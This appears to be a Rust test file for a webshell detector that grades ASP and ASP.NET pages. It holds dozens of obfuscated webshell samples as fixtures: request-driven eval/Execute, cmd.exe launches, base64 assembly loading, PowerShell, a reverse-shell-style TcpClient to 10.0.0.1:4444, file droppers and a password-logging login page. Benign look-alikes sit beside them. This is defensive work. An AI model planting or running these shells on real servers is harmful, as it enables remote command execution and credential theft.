//! Each way of hiding or reaching something, once with a visitor behind it and once without.

use assize_webshell::{Channel, Effect, Found, Grade, Oddity, Told, Way, look};

fn grade(page: &str, name: &str) -> Grade {
    look(page.as_bytes(), name).grade
}

fn flow(found: &Found) -> (&Effect, &str, Vec<(Channel, Option<&str>)>) {
    let told = found.reasons.iter().find_map(|reason| match &reason.told {
        Told::Flow { effect, sink, sources, .. } => Some((
            effect,
            sink.as_str(),
            sources.iter().map(|source| (source.channel, source.key.as_deref())).collect(),
        )),
        _ => None,
    });
    told.unwrap_or_else(|| panic!("no flow in {found:?}"))
}

#[track_caller]
fn certain(page: &str, name: &str) {
    let found = look(page.as_bytes(), name);
    assert_eq!(found.grade, Grade::Certain, "{page}\n{found:?}");
}

#[test]
fn the_explanation_names_source_way_and_sink() {
    let page = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load() {\n  string a = Request.Form[\"klk123456\"];\n  Go(a);\n}\nvoid Go(string b) {\n  System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + b);\n}\n</script>";
    let found = look(page.as_bytes(), "x.aspx");
    assert_eq!(flow(&found), (&Effect::Run, "Process.Start", vec![(Channel::Form, Some("klk123456"))]));
    assert_eq!(found.keys, ["klk123456"]);
    assert_eq!((found.reasons[0].line, found.reasons[0].column), (8, 29));
    let Told::Flow { ways, .. } = &found.reasons[0].told else { panic!("{found:?}") };
    assert_eq!(ways.as_slice(), [(Way::Named("a".into()), 4), (Way::Passed("Go".into()), 7)]);
}

#[test]
fn words_hidden_in_basic() {
    for page in [
        "<%execute request(\"a\")%>",
        "<%a=request(\"a\")%><%eval a%>",
        "<%Execute(StrReverse(\")\"\"a\"\"(tseuqer lave\"))%>",
        "<%executeglobal(replace(\"evXal(reqXuest(\"\"a\"\"))\",\"X\",\"\"))%>",
        "<%execute(Chr(101)&Chr(118)&\"al request(\"&chr(34)&\"a\"&chr(34)&\")\")%>",
        "<%Execute(D(\"%119%136%115%126%50%132%119%131%135%119%133%134%58%52%116%115%133%119%52%59\")):Function D(S):S=Split(S,\"%\"):For I=1 To Ubound(S):D=D&Chr(S(I)-18):Next:End Function%>",
        "<%Set o = Server.CreateObject(\"ScriptControl\")\no.language = \"vbscript\"\no.addcode(Request(\"c\"))%>",
        "<%\nClass A\nPrivate Sub Class_Initialize\neval (request(\"a\"))\nEnd Sub\nEnd Class\nSet X = New A\n%>",
        "<%Session(\"k\")=request(\"a\")%><%execute(Session(\"k\"))%>",
        "<%Set s=CreateObject(\"WScr\"&\"ipt.Shell\"):response.write s.exec(\"cmd /c \"&request(\"c\")).stdout.readall%>",
        "<object runat=server id=w classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object><%w.run request(\"c\")%>",
        "<%'<% loop <%:%><%execute request(\"sb\")%>",
        "<% With Request\nExecute .Form(\"x\")\nEnd With %>",
        "<%\nk = \"abc\"\nd = Request.Form(\"p\")\nFor i = 1 To Len(d) Step 2\nr = r & Chr(CInt(\"&H\" & Mid(d, i, 2)) Xor Asc(Mid(k, 1, 1)))\nNext\nEval(r)\n%>",
        "<% Set f = GetRef(\"g\")\nf Request(\"q\")\nSub g(x)\nExecute x\nEnd Sub %>",
        "<%\nClass C\nPublic Property Let Go(x)\nExecute x\nEnd Property\nEnd Class\nSet o = New C\no.Go = Request(\"t\")\n%>",
        "<% Set l = CreateObject(\"WbemScripting.SWbemLocator\")\nSet s = l.ConnectServer(\".\", \"root\\cimv2\")\nSet p = s.Get(\"Win32_Process\")\nr = p.Create(Request.Form(\"x\"), Null, Null, i) %>",
    ] {
        certain(page, "x.asp");
    }
}

#[test]
fn names_of_the_language_that_a_page_has_for_itself() {
    for page in [
        "<%Function Chr(n)\nChr = Request(\"a\")\nEnd Function\nExecute(Chr(65))%>",
        "<%Function ChrW(n)\nChrW = Request(\"a\")\nEnd Function\nExecute(ChrW(101)&ChrW(118)&ChrW(97)&ChrW(108)&ChrW(-3))%>",
        "<%Dim chr(2)\nchr(0) = Request(\"a\")\nExecute chr(0)%>",
        "<%Function Mid(a, b, c)\nMid = Request(\"a\")\nEnd Function\nExecute Mid(\"\", 1, 1)%>",
        "<%Sub Go(mid)\nExecute mid(0)\nEnd Sub\nGo Array(Request(\"a\"))%>",
    ] {
        certain(page, "x.asp");
    }
    for page in [
        "<%a = Request(\"a\")\nExecute(Chr(65))%>",
        "<%a = Request(\"a\")\nExecute(ChrW(120)&ChrW(61)&ChrW(49)&ChrW(-3))%>",
        "<%a = Request(\"a\")\nExecute Mid(\"x=1\", 1, 3)%>",
    ] {
        assert!(grade(page, "x.asp") < Grade::Likely, "{page}");
    }
}

#[test]
fn words_hidden_in_jscript() {
    for code in [
        "eval(Request.Item[\"a\"],\"unsafe\");",
        "\\u0065val(Request[\"a\"]);",
        "var l={'n':Request.form('x'),'e':eval};l.e(l.n+'');",
        "function _(x){if(x){return Request('_')+''}else{return eval}}_()(_(!-''));",
        "this[\"ev\"+\"al\"](Request[\"a\"]);",
        "var P=\"ev\"+\"al(Re\"+\"quest['a'])\";eval(P,\"un\"+\"safe\");",
        "var e=eval;e(Request.Headers[\"x\"]);",
        "new Function(\"a\",Request[\"b\"])();",
        "var a;(a=Request.Item[\"x\"],eval(a,\"unsafe\"));",
        "(function(){}).constructor(Request.Item[\"x\"])();",
        "\"\"[\"constructor\"][\"constructor\"](Request.Item[\"x\"])();",
        "try{throw Request.Item[\"x\"]}catch(e){eval(e,\"unsafe\")}",
        "var e=\"xxevalxx\".substring(2,6);this[e](Request.Item[\"z\"]);",
        "var f=Function(\"r\",String(Request(\"b\")));f(Response);",
    ] {
        certain(&format!("<%@ Page Language=\"Jscript\"%><%{code}%>"), "x.aspx");
    }
}

#[test]
fn ways_of_csharp() {
    for code in [
        "System.Reflection.Assembly.Load(Convert.FromBase64String(Request[\"a\"])).CreateInstance(\"U\").Equals(this);",
        "byte[] c = new byte[Request.InputStream.Length]; Request.InputStream.Read(c, 0, c.Length); System.Reflection.Assembly.Load(c);",
        "typeof(System.Reflection.Assembly).GetMethod(\"Lo\" + \"ad\", new Type[]{typeof(byte[])}).Invoke(null, new object[]{Request.BinaryRead(5)});",
        "var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = \"/c \" + Request.QueryString[\"c\"]; p.Start();",
        "var i = new ProcessStartInfo { FileName = \"cmd\", Arguments = Request[\"c\"] }; Process.Start(i);",
        "var p = Process.Start(\"cmd.exe\"); p.StandardInput.WriteLine(Request[\"c\"]);",
        "dynamic t = Activator.CreateInstance(Type.GetTypeFromProgID(\"WScript.Shell\")); t.Run(Request[\"c\"]);",
        "var ps = PowerShell.Create(); ps.AddScript(Request[\"c\"]); ps.Invoke();",
        "var r = new CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters(), Request.Form[\"s\"]);",
        "new System.Management.ManagementClass(\"Win32_Process\").InvokeMethod(\"Create\", new object[]{Request[\"c\"]});",
        "var x = new System.Xml.Xsl.XslCompiledTransform(); var d = new XmlDocument(); d.LoadXml(Request[\"x\"]); x.Load(d);",
        "Func<string, string> f = s => s.Trim(); Process.Start(f(Request[\"c\"]));",
        "var sb = new StringBuilder(); sb.Append(\"/c \"); sb.Append(Request[\"c\"]); Process.Start(\"cmd\", sb.ToString());",
        "Process.Start(\"cmd\", $\"/c {Request[\"c\"]}\");",
        "var q = from z in Request[\"x\"].Split(',') where z != \"\" select z.Trim(); Process.Start(q.First());",
        "var m = typeof(System.Diagnostics.Process).GetMethods().First(z => z.Name == \"Start\"); m.Invoke(null, new object[] { \"cmd\", \"/c \" + Request[\"x\"] });",
        "string o; P(Request[\"x\"], out o); Process.Start(o); void P(string s, out string r) { r = s.Substring(1); }",
    ] {
        certain(&format!("<%@ Page Language=\"C#\"%><%{code}%>"), "x.aspx");
    }
}

#[test]
fn ways_of_csharp_beside_the_plain_ones() {
    for code in [
        "new System.Threading.Thread(() => { Process.Start(\"cmd\", Request[\"c\"]); }).Start();",
        "if (Request[\"c\"] is string s && s.Length > 0) Process.Start(s);",
        "var d = new Dictionary<string, Action<string>> { { \"a\", z => Process.Start(\"cmd\", z) } }; d[\"a\"](Request[\"c\"]);",
        "switch ((object)Request[\"x\"]) { case string s when s.Length > 2: Process.Start(\"cmd\", s); break; }",
        "var f = (Func<string, Process>)Delegate.CreateDelegate(typeof(Func<string, Process>), typeof(Process), \"Start\"); f(Request[\"c\"]);",
        "Delegate d = new Func<string, string, Process>(Process.Start); d.DynamicInvoke(\"cmd\", Request[\"c\"]);",
        "var m = typeof(Process).GetMethods()[5]; m.Invoke(null, new object[] { \"cmd\", Request[\"c\"] });",
        "var m = typeof(Process).GetMethod(\"Start\"); Expression.Lambda<Action>(Expression.Call(m, Expression.Constant(Request[\"c\"]))).Compile()();",
        "var p = Activator.CreateInstance(Type.GetType(\"System.Diagnostics.Process\")); var i = p.GetType().GetProperty(\"StartInfo\").GetValue(p, null); i.GetType().GetProperty(\"Arguments\").SetValue(i, Request[\"x\"], null); p.GetType().GetMethod(\"Start\", new Type[0]).Invoke(p, null);",
        "System.Threading.Thread.GetDomain().Load(Convert.FromBase64String(Request[\"a\"]));",
        "Process.Start(\"cmd\", Request.PathInfo);",
        "Process.Start(\"cmd\", Request.Form.Keys[0]);",
        "var i = new ProcessStartInfo(\"cmd\"); i.ArgumentList.Add(Request[\"c\"]); Process.Start(i);",
        "new System.Management.Automation.RunspaceInvoke().Invoke(Request[\"c\"]);",
        "ActivityXamlServices.Load(new StringReader(Request[\"x\"]));",
        "dynamic t = Activator.CreateInstance(Type.GetTypeFromProgID(\"MMC20.Application\")); t.Document.ActiveView.ExecuteShellCommand(\"cmd\", null, Request[\"c\"], \"7\");",
    ] {
        certain(&format!("<%@ Page Language=\"C#\"%><%{code}%>"), "x.aspx");
    }
    for members in [
        "[DllImport(\"kernel32.dll\", EntryPoint=\"WinExec\")] static extern int F(string a, int b); void Page_Load(object s, EventArgs e) { F(Request[\"c\"], 0); }",
        "[DllImport(\"msvcrt.dll\")] static extern int system(string a); void Page_Load(object s, EventArgs e) { system(Request[\"c\"]); }",
        "IEnumerable<string> G() { yield return \"whoami\"; yield return Request[\"c\"]; } void Page_Load(object s, EventArgs e) { foreach (var x in G()) Process.Start(x); }",
        "class W { HttpRequest r; public W(HttpRequest x) { r = x; } public string this[string k] { get { return r[k]; } } } void Page_Load(object s, EventArgs e) { Process.Start(new W(Request)[\"c\"]); }",
        "void Page_Load(object s, EventArgs e) { Request[\"x\"].Go(); } static class X { public static void Go(this string q) { Process.Start(\"cmd\", q); } }",
        "class A { public virtual void R(string q) {} } class B : A { public override void R(string q) { Process.Start(\"cmd\", q); } } void Page_Load(object s, EventArgs e) { A a = new B(); a.R(Request[\"x\"]); }",
        "event Action<string> Ev; void Page_Load(object s, EventArgs e) { Ev += x => Process.Start(\"cmd\", x); Ev(Request[\"x\"]); }",
    ] {
        certain(&format!("<%@ Page Language=\"C#\"%><script runat=\"server\">{members}</script>"), "x.aspx");
    }
    certain(
        "<%@ Page Language=\"C#\"%><script runat=\"server\">void B(object s, EventArgs e) { var t = (TextBox)FindControl(\"x\"); Process.Start(\"cmd\", t.Text); }</script><asp:TextBox id=\"x\" runat=\"server\"/>",
        "x.aspx",
    );
    certain("<%@ Page Language=\"JScript\"%><%var z=eval.bind(null);z(Request.Item[\"x\"]);%>", "x.aspx");
}

#[test]
fn ways_of_basic_beside_the_plain_ones() {
    for page in [
        "<%\nDim a(2)\na(0)=\"ev\"\na(1)=\"al \"\na(2)=\"request(\"\"z\"\")\"\nExecute Join(a,\"\")\n%>",
        "<%Set r=New RegExp:r.Global=True:r.Pattern=\"#\":execute r.Replace(\"e#v#a#l r#equest(\"\"a\"\")\",\"\")%>",
        "<%Set x=GetObject(\"script:\"&request(\"u\"))%>",
        "<%Execute Request.ClientCertificate(\"Subject\")%>",
        "<%Set x=Server.CreateObject(\"MSXML2.DOMDocument\"):x.load(Request):Execute x.selectSingleNode(\"//c\").text%>",
        "<%Class X:Public Default Function G(a):Execute a:End Function:End Class:Set o=New X:o(Request(\"z\"))%>",
    ] {
        certain(page, "x.asp");
    }
    for members in [
        "Sub Page_Load()\nDim p As New Process()\nWith p.StartInfo\n.FileName = \"cmd.exe\"\n.Arguments = \"/c \" & Request(\"c\")\nEnd With\np.Start()\nEnd Sub",
        "Sub Page_Load()\nProcess.Start(\"cmd\", $\"/c {Request(\"c\")}\")\nEnd Sub",
        "ReadOnly Property Q() As String\nGet\nReturn Request(\"c\")\nEnd Get\nEnd Property\nSub Page_Load()\nProcess.Start(\"cmd\", Q)\nEnd Sub",
        "Private Declare Function F Lib \"kernel32\" Alias \"WinExec\" (ByVal a As String, ByVal b As Integer) As Integer\nSub Page_Load()\nF(Request(\"c\"), 0)\nEnd Sub",
        "<DllImport(\"kernel32\", EntryPoint:=\"WinExec\")> Private Shared Function F(ByVal a As String, ByVal b As Integer) As Integer\nEnd Function\nSub Page_Load()\nF(Request(\"c\"), 0)\nEnd Sub",
    ] {
        certain(&format!("<%@ Page Language=\"VB\"%><script runat=\"server\">\n{members}\n</script>"), "x.aspx");
    }
}

#[test]
fn files_that_a_visitor_fills() {
    let sharp = |code: &str| format!("<%@ Page Language=\"C#\"%><%{code}%>");
    for code in [
        "File.WriteAllText(Server.MapPath(\"e.aspx\"), Request[\"d\"]);",
        "Request.SaveAs(Server.MapPath(\"x.aspx\"), false);",
        "new WebClient().DownloadFile(Request[\"u\"], Server.MapPath(\"a.aspx\"));",
        "using (var f = File.OpenWrite(Request.Headers[\"X-F\"])) { Request.InputStream.CopyTo(f); }",
        "File.WriteAllText(\"c:\\\\t.cs\", Request[\"s\"]); new CSharpCodeProvider().CompileAssemblyFromFile(new CompilerParameters(), \"c:\\\\t.cs\");",
        "var t = new TcpClient(\"10.0.0.1\", 4444); var p = Process.Start(\"cmd\"); var r = new StreamReader(t.GetStream()); p.StandardInput.WriteLine(r.ReadLine());",
        "new JavaScriptSerializer(new SimpleTypeResolver()).DeserializeObject(Request[\"j\"]);",
        "JsonConvert.DeserializeObject(Request[\"j\"], new JsonSerializerSettings { TypeNameHandling = TypeNameHandling.All });",
    ] {
        let page = sharp(code);
        assert!(grade(&page, "x.aspx") >= Grade::Likely, "{page}: {:?}", look(page.as_bytes(), "x.aspx"));
    }
    // What is written names its source, and is a key like any other.
    let found = look(sharp("File.WriteAllText(Server.MapPath(\"e.aspx\"), Request.Form[\"d\"]);").as_bytes(), "x.aspx");
    assert_eq!(
        (found.reasons[0].notation(), found.keys),
        ("form \"d\" -> write: File.WriteAllText (1:31)".into(), vec!["d".to_owned()])
    );
    // A setting that an installer fills in is no shell for sure; a log of its own is none at all.
    let setting = sharp("File.WriteAllText(Server.MapPath(\"config.aspx\"), \"<x>\" + Request[\"title\"] + \"</x>\");");
    assert_eq!(grade(&setting, "x.aspx"), Grade::Suspicious);
    let log = sharp("File.WriteAllText(Server.MapPath(\"visits.txt\"), Request[\"title\"]);");
    assert!(grade(&log, "x.aspx") <= Grade::Context);
    assert_eq!(grade(&sharp("new JavaScriptSerializer().DeserializeObject(Request[\"j\"]);"), "x.aspx"), Grade::None);
    assert_eq!(grade(&sharp("JsonConvert.DeserializeObject<Order>(Request[\"j\"]);"), "x.aspx"), Grade::None);
    let kept = sharp(
        "Request.Files[0].SaveAs(\"C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\\" + Request.Files[0].FileName);",
    );
    assert_eq!(grade(&kept, "x.aspx"), Grade::Suspicious);
}

#[test]
fn what_is_not_followed_is_said() {
    for page in [
        "<%@ Language=\"PerlScript\"%><% system($Request->QueryString(\"c\")->Item); %>",
        "<script language=\"PerlScript\" runat=\"server\">exec($Request->Form(\"c\")->Item);</script>",
    ] {
        let found = look(page.as_bytes(), "x.asp");
        assert_eq!(found.grade, Grade::Suspicious, "{found:?}");
        assert_eq!(found.reasons[0].told, Told::Odd(Oddity::Language("PerlScript".into())));
    }
    let shell = "<handlers><add name='a' path='*.foo' verb='*' modules='FastCgiModule' scriptProcessor='c:\\windows\\system32\\cmd.exe|/c whoami'/></handlers>";
    assert_eq!(grade(shell, "web.config"), Grade::Likely);
    let php = "<handlers><add name='a' path='*.php' verb='*' modules='FastCgiModule' scriptProcessor='c:\\php\\php-cgi.exe'/></handlers>";
    assert_eq!(grade(php, "web.config"), Grade::None);
    let included = "<%Set f=Server.CreateObject(\"Scripting.FileSystemObject\"):execute f.OpenTextFile(Server.MapPath(\"a.jpg\")).ReadAll%>";
    assert_eq!(grade(included, "x.asp"), Grade::Suspicious);
}

#[test]
fn other_files_that_servers_run() {
    certain(
        "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) { System.Diagnostics.Process.Start(c.Request[\"a\"]); } }",
        "h.ashx",
    );
    certain(
        "<%@ WebService Language=\"C#\" Class=\"S\" %>\npublic class S { [WebMethod] public string Run(string cmd) { return Process.Start(\"cmd\", cmd).ToString(); } }",
        "s.asmx",
    );
    certain(
        "<%@ ServiceHost Language=\"C#\" Service=\"S\" %>\n[ServiceContract] public interface IS { [OperationContract] string Do(string a); }\npublic class S : IS { public string Do(string a) { return Process.Start(\"cmd.exe\", \"/c \" + a).ToString(); } }",
        "s.svc",
    );
    certain(
        "<%@ WebHandler Language=\"VB\" Class=\"H\" %>\nPublic Class H\n Implements IHttpHandler\n Public Sub ProcessRequest(ByVal x As HttpContext) Implements IHttpHandler.ProcessRequest\n  Dim c = x.Request(\"c\")\n  System.Diagnostics.Process.Start(\"cmd\", c)\n End Sub\nEnd Class",
        "h.ashx",
    );
    certain("@{ var c = Request[\"c\"]; System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + c); }", "s.cshtml");
    certain("@Code\nDim c = Request(\"c\")\nSystem.Diagnostics.Process.Start(\"cmd.exe\", c)\nEnd Code", "s.vbhtml");
    certain(
        "<?xml version=\"1.0\"?>\n<configuration/>\n<!-- <% Set s=CreateObject(\"WScript.Shell\"):s.Run Request(\"c\") %> -->",
        "web.config",
    );
    certain(
        "<%@ Page Language=\"VB\"%><script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n Dim p As New ProcessStartInfo(\"cmd\")\n p.Arguments = t.Text\n Process.Start(p)\nEnd Sub\n</script><asp:TextBox id=\"t\" runat=\"server\"/>",
        "v.aspx",
    );
    assert_eq!(
        grade(
            "<handlers><add name='x' path='*.png' verb='*' type='System.Web.UI.PageHandlerFactory'/></handlers>",
            "web.config"
        ),
        Grade::Likely
    );
}

#[test]
fn code_behind_a_page() {
    certain(
        "public partial class X : System.Web.UI.Page { protected TextBox T; protected void B_Click(object s, EventArgs e) { System.Diagnostics.Process.Start(\"cmd\", T.Text); } }",
        "x.aspx.cs",
    );
    certain(
        "Partial Class X\nInherits System.Web.UI.Page\nProtected Sub Page_Load(s As Object, e As EventArgs) Handles Me.Load\nProcess.Start(\"cmd\", Request(\"c\"))\nEnd Sub\nEnd Class",
        "x.aspx.vb",
    );
    assert_eq!(grade("public class X { public string Name { get { return \"x\"; } } }", "App_Code/x.cs"), Grade::None);
}

#[test]
fn what_was_seen_beside_command_shells() {
    let likely = [
        // CVE-2025-53770: the keys of the server are read out.
        (
            "<%@ Page Language=\"C#\"%><%var s = (System.Web.Configuration.MachineKeySection)c.GetSection(\"system.web/machineKey\"); Response.Write(s.ValidationKey + s.DecryptionKey);%>",
            "s.aspx",
        ),
        // A log-on page with a few lines added: passwords are kept in a file.
        (
            "<%@ Page Language=\"C#\"%><%System.IO.File.AppendAllText(\"C:\\\\google.log\", Request.Form[\"username\"] + \":\" + Request.Form[\"password\"]);%>",
            "logon.aspx",
        ),
        (
            "<%@ Page Language=\"C#\"%><script runat=server>[DllImport(\"kernel32\")] static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);</script>",
            "p.aspx",
        ),
        ("<%@ Page Language=\"C#\"%><%var c = new System.Net.Sockets.TcpClient(Request[\"h\"], 445);%>", "t.aspx"),
        (
            "<%@ Page Language=\"C#\"%><%new BinaryFormatter().Deserialize(new MemoryStream(Convert.FromBase64String(Request[\"d\"])));%>",
            "d.aspx",
        ),
    ];
    for (page, name) in likely {
        assert!(grade(page, name) >= Grade::Likely, "{page}: {:?}", look(page.as_bytes(), name));
    }
    let uploads = "<%@ Page Language=\"C#\"%><%var f = Request.Files[0]; f.SaveAs(Server.MapPath(\".\") + \"\\\\\" + f.FileName);%>";
    assert_eq!(grade(uploads, "u.aspx"), Grade::Suspicious, "{:?}", look(uploads.as_bytes(), "u.aspx"));
    let kept = "<%@ Page Language=\"C#\"%><%var f = Request.Files[0]; f.SaveAs(Server.MapPath(\"~/App_Data/up/\") + f.FileName);%>";
    assert_eq!(grade(kept, "u.aspx"), Grade::Context);
    assert_eq!(grade("<%@ Page Language=\"C#\"%><%var a = Assembly.Load(\"App_Code\");%>", "a.aspx"), Grade::None);
    for method in ["LoadFrom", "LoadFile", "loadfrom"] {
        let file = format!("<%@ Page Language=\"C#\"%><%var a = Assembly.{method}(\"helper.dll\");%>");
        assert_eq!(grade(&file, "a.aspx"), Grade::Likely, "{file}");
    }
    certain("<%Set s=CreateObject(\"WScript.Shell\"):CallByName s,\"Run\",1,request(\"c\")%>", "x.asp");
    certain(
        "<%@ Page Language=\"C#\"%><%var t = Assembly.Load(\"System\").GetType(\"System.Diagnostics.Process\"); t.GetMethod(\"Start\", new[]{typeof(string)}).Invoke(null, new object[]{Request[\"c\"]});%>",
        "x.aspx",
    );
}

#[test]
fn containers() {
    let script =
        "<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"x\"],\"unsafe\");}</script>";
    certain(
        &format!(
            "Name : OAB (Default Web Site)\nInternalUrl : https://ex/OAB\nExternalUrl : http://f/{script}\nWhenChanged : 1"
        ),
        "x.aspx",
    );
    let mut pst = b"!BDN\x01\x02\x03\x04".to_vec();
    pst.extend_from_slice(&[0; 600]);
    pst.extend_from_slice(script.as_bytes());
    assert_eq!(look(&pst, "x.aspx").grade, Grade::Certain);
    let wide: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(look(&wide, "x.aspx").grade, Grade::Certain);
}

#[test]
fn the_same_calls_without_a_visitor() {
    for (page, name) in [
        ("<%@ Page Language=\"C#\"%><%# Eval(\"Name\") %><%= DataBinder.Eval(x, \"y\") %>", "a.aspx"),
        (
            "<%Set c=Server.CreateObject(\"ADODB.Connection\"):c.Open \"dsn\":Set r=c.Execute(\"select * from t where id=\" & CInt(request(\"id\")))%>",
            "a.asp",
        ),
        ("<%IsError = eval(Me.ID < 0)%>", "a.asp"),
        (
            "<%@ Page Language=\"C#\"%><%var t = File.ReadAllText(Server.MapPath(\"~/a.txt\")); Response.Write(t);%>",
            "a.aspx",
        ),
        ("<%Set re = New RegExp:re.Pattern=\"a\":Set m = re.Execute(request(\"q\"))%>", "a.asp"),
        (
            "<%@ Page Language=\"C#\"%><%int id = int.Parse(Request[\"id\"]); Process.Start(\"x.exe\", id.ToString());%>",
            "a.aspx",
        ),
        ("<html><script>eval(location.hash)</script></html>", "a.aspx"),
    ] {
        assert!(grade(page, name) <= Grade::Suspicious, "{page}: {:?}", look(page.as_bytes(), name));
    }
    assert_eq!(grade("<%@ Page Language=\"C#\"%><%# Eval(\"Name\") %>", "a.aspx"), Grade::None);
    assert_eq!(grade("<p>nothing</p>", "a.html"), Grade::None);
}

#[test]
fn functions_of_a_page_under_names_of_the_library() {
    let page = |own: &str, call: &str| {
        format!("<%@ Page Language=\"C#\" %><script runat=\"server\">{own}\nvoid Page_Load() {{ {call} }}</script>")
    };
    let run = "Process.Start(\"cmd.exe\", \"/c \" + Request[\"a\"]);";
    for own in ["void Start(string a) {}", "void Start(string a, string b) {}", "class Start { void Start() {} }"] {
        certain(&page(own, run), "x.aspx");
        certain(&page(own, &format!("System.Diagnostics.{run}")), "x.aspx");
    }
    let write = "File.WriteAllText(Server.MapPath(\"x.aspx\"), Request[\"a\"]);";
    let own = "void WriteAllText(string a, string b) {}";
    assert!(grade(&page(own, write), "x.aspx") >= Grade::Likely);
    // A class of the page is the page's.
    let own = "class File { public static void WriteAllText(string a, string b) {} }";
    assert!(grade(&page(own, write), "x.aspx") < Grade::Likely);
    let own = "class Process { public static void Start(string a, string b) {} }";
    assert!(grade(&page(own, run), "x.aspx") < Grade::Likely);
}

#[test]
fn loops_that_only_call_end_early_and_are_seen() {
    let looped = "for (int i = 0; i < 1000000; i++) { Console.Write(i); }";
    let found = look(
        format!("<%@ Page Language=\"C#\" %><% {looped} System.Diagnostics.Process.Start(Request[\"a\"]); %>")
            .as_bytes(),
        "x.aspx",
    );
    assert_eq!((found.grade, found.cut), (Grade::Certain, false));
    // Texts that grow are no idle rounds.
    certain(
        "<%@ Page Language=\"JScript\" %><% var a = [101,118,97,108], s = \"\"; for (var n = 0; n < 100; n++) { s = s + \"x\"; } for (var i = 0; i < 4; i++) { t = t + String.fromCharCode(a[i]); } eval(Request[\"a\"]); %>",
        "x.aspx",
    );
}

#[test]
fn loops_and_calls_whose_end_is_not_known_end() {
    let start = "System.Diagnostics.Process.Start(Request[\"a\"]);";
    for code in [
        "while (true) { n = stream.Read(buffer, 0, 4); if (n < 1) break; total = total + 1; }",
        "while (true) { n = stream.Read(buffer, 0, 4); switch (n) { case 1: total = total + 1; break; } if (n < 1) return; }",
    ] {
        let page = format!(
            "<%@ Page Language=\"C#\" %><script runat=\"server\">void Go() {{ {code} }}\nvoid Page_Load() {{ {start} Go(); }}</script>"
        );
        let found = look(page.as_bytes(), "x.aspx");
        assert_eq!((found.grade, found.cut), (Grade::Certain, false), "{code}");
    }
    let calls =
        "void Write(Packet p) { Write(p.Head); Write(p.Body); Write(p.Next); }\nvoid Page_Load() { Write(packet); }";
    let page = format!("<%@ Page Language=\"C#\" %><script runat=\"server\">{calls}\nvoid Go() {{ {start} }}</script>");
    let found = look(page.as_bytes(), "x.aspx");
    assert_eq!((found.grade, found.cut), (Grade::Certain, false));
}
